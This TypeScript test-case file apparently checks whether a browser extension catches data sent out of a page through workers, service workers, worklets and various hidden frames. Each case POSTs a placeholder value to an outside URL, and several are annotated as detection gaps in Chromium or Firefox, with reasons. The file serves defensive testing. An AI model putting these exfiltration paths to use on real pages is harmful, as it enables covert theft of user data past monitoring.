import type { ChannelCase } from '../channel-case.ts';

const inWorker = (task: string): string => `const w = new Worker('/worker.js'); w.postMessage({ task: '${task}', U, E }); await new Promise(done => { w.onmessage = done; });`;
const inFrame = (source: string): string => `const f = document.createElement('iframe'); f.hidden = true; ${source} document.body.append(f); await got();`;
const SENDING = `<script>fetch('\${U}/c', { method: 'POST', body: '\${E}' }).finally(() => parent.postMessage('got', '*'))<\\/script>`;

/** Scripts apart from the page: workers, frames of every kind, clean windows. */
export const APART: readonly ChannelCase[] = [
  { id: 'worker-fetch', what: 'worker, fetch', act: inWorker('fetch') },
  { id: 'worker-xhr', what: 'worker, XMLHttpRequest', act: inWorker('xhr') },
  { id: 'worker-blob', what: 'worker, fetch of a Blob', act: inWorker('blob'), sees: { chromium: 'gap' }, because: 'Chromium shows no extension a Blob, and no script of ours runs in workers' },
  { id: 'worker-socket', what: 'worker, WebSocket', act: inWorker('socket'), sees: { chromium: 'gap', firefox: 'gap' }, because: 'browsers show extensions the handshake alone, and no script of ours runs in workers' },
  { id: 'worker-import', what: 'worker, importScripts', act: inWorker('import') },
  { id: 'worker-nested', what: 'worker in a worker, fetch', act: inWorker('nested') },
  { id: 'worker-of-blob', what: 'worker of a blob: URL, fetch', act: `const w = new Worker(URL.createObjectURL(new Blob(['fetch("' + U + '/c", { method: "POST", body: "' + E + '" }).finally(() => postMessage(1))']))); await new Promise(done => { w.onmessage = done; });` },
  { id: 'worker-shared', what: 'shared worker, fetch', act: `const w = new SharedWorker('/worker.js'); w.port.postMessage({ task: 'fetch', U, E }); await new Promise(done => { w.port.onmessage = done; });` },
  { id: 'worker-service', what: 'service worker, its own fetch', act: `const r = await service(); r.active.postMessage({ task: 'fetch', U, E }); await pause(500);` },
  { id: 'service-passed', what: 'fetch through a service worker', act: `await service(); const f = await frame('/served/frame?to=' + encodeURIComponent(U) + '&e=' + encodeURIComponent(E)); await pause(300);` },
  { id: 'worklet', what: 'AudioWorklet module', act: `await new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule(U + '/module.js?e=' + encodeURIComponent(E));` },
  { id: 'frame-blank', what: 'fetch of an about:blank frame', act: `const f = document.createElement('iframe'); f.hidden = true; document.body.append(f); await f.contentWindow.fetch(U + '/c', { method: 'POST', body: E });` },
  { id: 'frame-clean', what: 'Blob by a clean fetch of a frame still loading', act: `const f = document.createElement('iframe'); f.hidden = true; f.src = '/empty'; document.body.append(f); await f.contentWindow.fetch(U + '/c', { method: 'POST', keepalive: true, body: new f.contentWindow.Blob([E]) });`, sees: { chromium: 'gap' }, because: 'such a window has no scripts of ours yet, and Chromium shows no extension a Blob' },
  { id: 'frame-srcdoc', what: 'fetch in a srcdoc frame', act: inFrame(`f.srcdoc = \`${SENDING}\`;`) },
  { id: 'frame-sandboxed', what: 'fetch in a sandboxed frame', act: inFrame(`f.sandbox = 'allow-scripts'; f.srcdoc = \`${SENDING}\`;`) },
  { id: 'frame-data', what: 'fetch in a data: frame', act: inFrame(`f.src = 'data:text/html,' + encodeURIComponent(\`${SENDING}\`);`) },
  { id: 'frame-blob', what: 'fetch in a blob: frame', act: inFrame(`f.src = URL.createObjectURL(new Blob([\`${SENDING}\`], { type: 'text/html' }));`) },
  { id: 'frame-own', what: 'fetch in a frame of the page’s own site', act: `await frame('/sends?to=' + encodeURIComponent(U) + '&e=' + encodeURIComponent(E)); await pause(300);` },
  { id: 'frame-foreign', what: 'Blob by beacon in a foreign frame', act: `await frame('https://in.frame-foreign.test/sends?blob&to=' + encodeURIComponent(U) + '&e=' + encodeURIComponent(E)); await pause(300);` },
];
